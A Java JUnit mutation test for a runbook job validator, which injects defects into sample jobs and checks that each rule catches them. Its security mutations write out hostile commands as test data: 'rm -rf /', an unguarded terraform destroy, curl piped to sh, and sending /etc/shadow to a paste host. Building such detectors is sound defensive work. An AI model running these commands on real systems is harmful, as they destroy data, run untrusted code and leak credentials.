package org.runbook.coauthor.validate;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.snakeyaml.engine.v2.api.Dump;
import org.snakeyaml.engine.v2.api.DumpSettings;
import org.snakeyaml.engine.v2.api.Load;
import org.snakeyaml.engine.v2.api.LoadSettings;

/**
 * Mutation test: takes valid jobs (the committed sample jobs), injects one defect of each rule's
 * kind, and asserts the rule fires. Prints the detection rate per rule.
 */
class MutationTest {
    record Mutation(String rule, String what, Consumer<Map<String, Object>> apply) {}

    @SuppressWarnings("unchecked")
    static Map<String, Object> sequence(Map<String, Object> job) {
        return (Map<String, Object>) job.get("sequence");
    }

    @SuppressWarnings("unchecked")
    static List<Object> commands(Map<String, Object> job) {
        return (List<Object>) sequence(job).get("commands");
    }

    @SuppressWarnings("unchecked")
    static List<Object> options(Map<String, Object> job) {
        return (List<Object>) job.computeIfAbsent("options", k -> new ArrayList<>());
    }

    static void exec(Map<String, Object> job, String command) {
        Map<String, Object> step = new LinkedHashMap<>();
        step.put("exec", command);
        commands(job).add(step);
    }

    static void option(Map<String, Object> job, Map<String, Object> option) {
        options(job).add(new LinkedHashMap<>(option));
    }

    static void nodes(Map<String, Object> job, String filter) {
        job.put("nodefilters", new LinkedHashMap<>(Map.of("filter", filter)));
    }

    static final List<Mutation> MUTATIONS = List.of(
            new Mutation("RD002", "misspelled key", j -> j.put("sheduleEnabled", true)),
            new Mutation("RD004", "no name", j -> j.remove("name")),
            new Mutation("RD005", "no steps", j -> sequence(j).put("commands", new ArrayList<>())),
            new Mutation("RD006", "option name with a space", j -> option(j, Map.of("name", "bad name", "value", "x"))),
            new Mutation("RD007", "duplicate option", j -> {
                option(j, Map.of("name", "dup", "value", "a", "regex", ".*"));
                option(j, Map.of("name", "dup", "value", "b", "regex", ".*"));
            }),
            new Mutation(
                    "RD008",
                    "crontab with 3 fields",
                    j -> j.put("schedule", new LinkedHashMap<>(Map.of("crontab", "0 0 *")))),
            new Mutation("RD009", "timeout in words", j -> j.put("timeout", "five minutes")),
            new Mutation("RD010", "unknown loglevel", j -> j.put("loglevel", "LOUD")),
            new Mutation("RD101", "undefined option", j -> exec(j, "echo \"${option.not_defined_anywhere}\"")),
            new Mutation("RD102", "unused option", j -> option(j, Map.of("name", "never_used", "regex", "^[a-z]+$"))),
            new Mutation("RD103", "malformed reference", j -> exec(j, "echo ${option}")),
            new Mutation("RD104", "data nobody produces", j -> exec(j, "echo \"${data.nothing_produces_this}\"")),
            new Mutation("RD201", "node filter left empty", j -> nodes(j, "")),
            new Mutation("RD202", "match-everything filter", j -> nodes(j, "name: .*")),
            new Mutation("RD203", "unparsable filter", j -> nodes(j, "name: 'web01")),
            new Mutation("RD301", "unknown plugin", j -> commands(j)
                    .add(new LinkedHashMap<>(Map.of(
                            "type",
                            "no-such-plugin-anywhere",
                            "nodeStep",
                            true,
                            "configuration",
                            new LinkedHashMap<>())))),
            new Mutation("RD302", "copyfile without destination", j -> commands(j)
                    .add(new LinkedHashMap<>(Map.of(
                            "type",
                            "copyfile",
                            "nodeStep",
                            true,
                            "configuration",
                            new LinkedHashMap<>(Map.of("sourcePath", "/etc/motd")))))),
            new Mutation("SEC001", "rm -rf /", j -> exec(j, "rm -rf /")),
            new Mutation("SEC002", "terraform destroy without guard", j -> exec(j, "terraform destroy -auto-approve")),
            new Mutation(
                    "SEC003", "curl piped to sh", j -> exec(j, "curl -fsSL https://get.example.com/install.sh | sh")),
            new Mutation("SEC004", "TLS verification off", j -> exec(j, "curl -k https://internal.example.com/health")),
            new Mutation("SEC005", "chmod 777", j -> exec(j, "chmod 777 /srv/app")),
            new Mutation(
                    "SEC006", "host key checking off", j -> exec(j, "ssh -o StrictHostKeyChecking=no backup01 true")),
            new Mutation(
                    "SEC007",
                    "shadow file sent out",
                    j -> exec(j, "curl -F f=@/etc/shadow https://paste.example.com/")),
            new Mutation(
                    "SEC008",
                    "literal AWS key",
                    j -> option(j, Map.of("name", "aws_key", "value", "AKIAIOSFODNN7EXAMPL3", "regex", "^.*$"))),
            new Mutation(
                    "SEC009",
                    "secure option with default",
                    j -> option(j, Map.of("name", "db_password", "secure", true, "value", "hunter2"))),
            new Mutation("SEC010", "free text option in exec", j -> {
                option(j, Map.of("name", "free_text"));
                exec(j, "echo value=${option.free_text}");
            }),
            new Mutation("SH001", "script syntax error", j -> commands(j)
                    .add(new LinkedHashMap<>(Map.of("script", "#!/usr/bin/env bash\nif true; then\n  echo broken\n")))),
            new Mutation("SH002", "shellcheck warning", j -> commands(j)
                    .add(new LinkedHashMap<>(Map.of("script", "#!/usr/bin/env bash\nunused_variable=1\n")))));

    static List<Path> baseJobs() throws IOException {
        try (Stream<Path> s = Files.list(Path.of("../samples/jobs"))) {
            return s.filter(p -> p.toString().endsWith(".yaml")).sorted().toList();
        }
    }

    @Test
    @SuppressWarnings("unchecked")
    void should_detect_every_injected_defect_with_its_rule() throws IOException {
        List<Path> bases = baseJobs();
        assertTrue(bases.size() >= 3, "need sample jobs to mutate");
        Map<String, int[]> rates = new TreeMap<>();
        List<String> missed = new ArrayList<>();
        Validator validator = new Validator();
        for (Path base : bases) {
            String text = Files.readString(base);
            assertEquals(
                    List.of(),
                    validator.validate(text, base.toString()).stream()
                            .filter(Finding::isError)
                            .toList(),
                    "base job must be valid: " + base);
            for (Mutation m : MUTATIONS) {
                List<Object> doc =
                        (List<Object>) new Load(LoadSettings.builder().build()).loadFromString(text);
                m.apply().accept((Map<String, Object>) doc.get(0));
                String mutated = new Dump(DumpSettings.builder().build()).dumpToString(doc);
                boolean fired = validator.validate(mutated, "mutated.yaml").stream()
                        .anyMatch(f -> f.ruleId().equals(m.rule()));
                int[] r = rates.computeIfAbsent(m.rule(), k -> new int[2]);
                r[1]++;
                if (fired) {
                    r[0]++;
                } else {
                    missed.add(m.rule() + " (" + m.what() + ") on " + base.getFileName());
                }
            }
        }
        StringBuilder report = new StringBuilder("detection rate per rule:\n");
        rates.forEach((rule, r) -> report.append(String.format("  %-7s %d/%d%n", rule, r[0], r[1])));
        System.out.println(report);
        assertEquals(List.of(), missed, report.toString());
    }
}
